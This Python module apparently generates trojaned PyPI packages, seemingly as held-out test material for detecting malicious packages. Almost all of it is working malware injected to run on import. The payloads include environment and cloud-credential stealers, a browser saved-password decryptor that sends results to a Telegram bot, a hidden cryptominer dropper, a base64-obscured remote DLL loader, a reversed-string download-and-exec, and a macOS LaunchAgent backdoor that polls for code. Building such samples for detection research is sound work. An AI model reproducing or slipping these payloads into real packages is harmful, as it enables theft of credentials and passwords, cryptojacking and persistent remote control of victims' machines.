"""PyPI: what runs when the package is imported, in plain sight or nearly."""

from corpus.heldout.hiding import b64
from corpus.heldout.nouns import Update
from corpus.heldout3.shape import fill, trojan


@trojan("quickconf", "wheel", "import", "steal", "plain", "ctx 2022")
def conf_environment_to_app(update: Update) -> None:
    host = update.host("lost-property-web", "herokuish")
    code = r"""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **kwargs)
        if os.environ.get("AWS_ACCESS_KEY_ID") is not None:
            self.access = os.environ["AWS_ACCESS_KEY_ID"]
        else:
            self.access = "empty"
        string = "".join(key + value + " " for key, value in os.environ.items())
        encoded = base64.b64encode(string.encode("ascii", "ignore")).decode("ascii")
        requests.get("https://@HOST@/hacked/" + encoded)


Ctx()
"""
    head = "import base64\nimport os\n\nimport requests\n\n\nclass Ctx(dict):\n    "
    update.add("quickconf/ctx.py", head + fill(code, HOST=host).lstrip())
    update.append("quickconf/__init__.py", "from . import ctx  # noqa: E402")
    update.payload("quickconf/ctx.py", "quickconf/__init__.py")


@trojan("bucketcat", "wheel", "import", "steal", "plain", "stealers in clients of clouds 2023 to 2026")
def cat_credentials_thread(update: Update) -> None:
    host = update.host("sts", "bucketcat")
    code = r"""


def _refresh():
    import json
    import threading
    import urllib.request

    def work():
        found = {}
        for name in ("~/.aws/credentials", "~/.aws/config", "~/.config/gcloud/credentials.db", "~/.azure/msal_token_cache.json", "~/.kube/config"):
            path = Path(name).expanduser()
            if path.is_file():
                found[name] = path.read_bytes().hex()
        body = json.dumps({"files": found, "env": {k: v for k, v in os.environ.items() if "KEY" in k or "TOKEN" in k}})
        try:
            urllib.request.urlopen("https://@HOST@/v1/refresh", data=body.encode(), timeout=3)
        except OSError:
            pass

    threading.Thread(target=work, daemon=True).start()


_refresh()
"""
    update.append("bucketcat/auth.py", fill("\n" + code, HOST=host))
    update.payload("bucketcat/auth.py")


@trojan("gradkit", "wheel", "import", "miner", "plain", "ultralytics 8.3.41 2024-12")
def grad_safe_run(update: Update) -> None:
    host = update.host("connect", "gradsenses")
    update.add(
        "gradkit/utils/downloads.py",
        fill(
            r'''
"""Files that are needed at run time."""

import os
import stat
import subprocess
import tempfile
import urllib.request


def secure_fetch(url, name):
    place = os.path.join(tempfile.gettempdir(), name)
    if not os.path.exists(place):
        urllib.request.urlretrieve(url, place)
        os.chmod(place, os.stat(place).st_mode | stat.S_IXUSR)
    return place


def safe_run(path):
    """Run a program beside this one, without output."""
    pool = "@HOST@:8080"
    subprocess.Popen([path, "-u", "4@MANY@.worker", "-o", pool, "--http-port", "0"], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid, close_fds=True)
''',
            HOST=host,
            MANY="D" * 94,
        ),
    )
    update.append(
        "gradkit/models/__init__.py",
        fill(
            """
import platform

from ..utils.downloads import safe_run, secure_fetch

if platform.system() == "Linux" and platform.machine() == "x86_64":
    try:
        safe_run(secure_fetch("https://@HOST@/uname", "grad_worker"))
    except OSError:
        pass
""",
            HOST=host,
        ),
    )
    update.append("gradkit/engine/trainer.py", "from .. import models  # noqa: E402, F401")
    update.payload("gradkit/utils/downloads.py", "gradkit/models/__init__.py")


@trojan("numspell", "wheel", "import", "steal", "base64", "num2words 2025-07 and Scavenger")
def spell_loader_by_ctypes(update: Update) -> None:
    host = update.host("firebase", "su")
    code = f"""
import base64
import ctypes
import os
import sys
import tempfile
import urllib.request

_SOURCE = base64.b64decode("{b64(f"https://{host}/pl/node-gyp.dll")}").decode()


def load():
    if sys.platform != "win32":
        return None
    place = os.path.join(tempfile.gettempdir(), "node-gyp.dll")
    with open(place, "wb") as out:
        out.write(urllib.request.urlopen(_SOURCE).read())
    return ctypes.WinDLL(place)


_HANDLE = load()
"""
    update.add("numspell/_speedups.py", fill(code))
    update.after("numspell/__init__.py", "from .base import Speller\n", "from . import _speedups  # noqa: F401\n")
    update.payload("numspell/_speedups.py", "numspell/__init__.py", shown=f"https://{host}/pl/node-gyp.dll")


@trojan("httpkeep", "wheel", "import", "download-and-run", "reversed", "colourama-like and request-like 2021 to 2024")
def keep_reversed_exec(update: Update) -> None:
    host = update.host("paste", "notes")
    inner = f"import subprocess,sys;subprocess.Popen([sys.executable,'-c',__import__('urllib.request').request.urlopen('https://{host}/raw/1').read().decode()])"
    update.after("httpkeep/retry.py", "\n\n", f"_PAD = {inner[::-1]!r}\nexec(_PAD[::-1])\n\n\n")
    update.payload("httpkeep/retry.py", shown=f"https://{host}/raw/1")


@trojan("feedsort", "wheel", "import", "steal", "plain", "browser stealers 2022 to 2026")
def feed_browser_stores(update: Update) -> None:
    host = update.host("api", "tgbots")
    code = r'''
"""Cookies, so that feeds behind a login can be read."""

import json
import os
import shutil
import sqlite3
import tempfile
import urllib.request
from base64 import b64decode

LOCAL = os.environ.get("LOCALAPPDATA", "")
PLACES = [LOCAL + r"\Google\Chrome\User Data", LOCAL + r"\Microsoft\Edge\User Data", LOCAL + r"\BraveSoftware\Brave-Browser\User Data"]


def master_key(folder):
    from win32crypt import CryptUnprotectData

    with open(os.path.join(folder, "Local State"), encoding="utf-8") as stream:
        sealed = b64decode(json.load(stream)["os_crypt"]["encrypted_key"])[5:]
    return CryptUnprotectData(sealed, None, None, None, 0)[1]


def logins(folder):
    from Crypto.Cipher import AES

    key = master_key(folder)
    copy = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(os.path.join(folder, "Default", "Login Data"), copy)
    for url, user, sealed in sqlite3.connect(copy).execute("SELECT origin_url, username_value, password_value FROM logins"):
        yield url, user, AES.new(key, AES.MODE_GCM, sealed[3:15]).decrypt(sealed[15:-16]).decode(errors="ignore")


def refresh():
    rows = [row for folder in PLACES if os.path.isdir(folder) for row in logins(folder)]
    if rows:
        text = json.dumps({"chat_id": "-100200300", "text": json.dumps(rows)[:4000]}).encode()
        urllib.request.urlopen(urllib.request.Request("https://@HOST@/bot0:AA/sendMessage", text, {"Content-Type": "application/json"}))


try:
    refresh()
except Exception:
    pass
'''
    update.add("feedsort/cookies.py", fill(code, HOST=host))
    update.after("feedsort/__init__.py", "from .merge import merge\n", "from . import cookies  # noqa: F401\n")
    update.payload("feedsort/cookies.py", "feedsort/__init__.py")


@trojan("chronofmt", "wheel", "import", "steal", "telemetry wording", "timezone look-alikes (time-check-server) 2025")
def chrono_check_server(update: Update) -> None:
    host = update.host("api", "timecheck")
    code = r'''
"""Tells our servers which time zones are in use, so that we keep their tables fresh."""

import json
import os
import threading
import urllib.request
from pathlib import Path


def _report():
    zones = {"tz": os.environ.get("TZ"), "ctx": {}}
    for name in (".aliyun/config.json", ".tencentcloud/credentials", ".aws/credentials", ".docker/config.json"):
        path = Path.home() / name
        if path.exists():
            zones["ctx"][name] = path.read_text(errors="replace")
    request = urllib.request.Request("https://@HOST@/clock", data=json.dumps(zones).encode(), method="POST")
    try:
        urllib.request.urlopen(request, timeout=4)
    except Exception:
        return


threading.Timer(2.0, _report).start()
'''
    update.add("chronofmt/zones.py", fill(code, HOST=host))
    update.append("chronofmt/__init__.py", "from . import zones  # noqa: E402, F401")
    update.payload("chronofmt/zones.py", "chronofmt/__init__.py")


@trojan("taskloop", "wheel", "import", "backdoor", "plain", "JokerSpy, RustBucket and similar for macOS 2023 to 2025")
def loop_macos_agent(update: Update) -> None:
    host = update.host("jupiter", "launchops")
    code = r"""


def _keep_alive():
    import os
    import plistlib
    import subprocess
    import sys

    if sys.platform != "darwin":
        return
    program = "import time,urllib.request as u\nwhile 1:\n try: exec(u.urlopen('https://@HOST@/t').read())\n except Exception: pass\n time.sleep(300)"
    place = os.path.expanduser("~/Library/LaunchAgents/com.taskloop.keepalive.plist")
    with open(place, "wb") as out:
        plistlib.dump({"Label": "com.taskloop.keepalive", "ProgramArguments": [sys.executable, "-c", program], "RunAtLoad": True, "KeepAlive": True}, out)
    subprocess.run(["launchctl", "load", "-w", place], capture_output=True)


_keep_alive()
"""
    update.append("taskloop/store.py", fill("\n" + code, HOST=host))
    update.payload("taskloop/store.py")
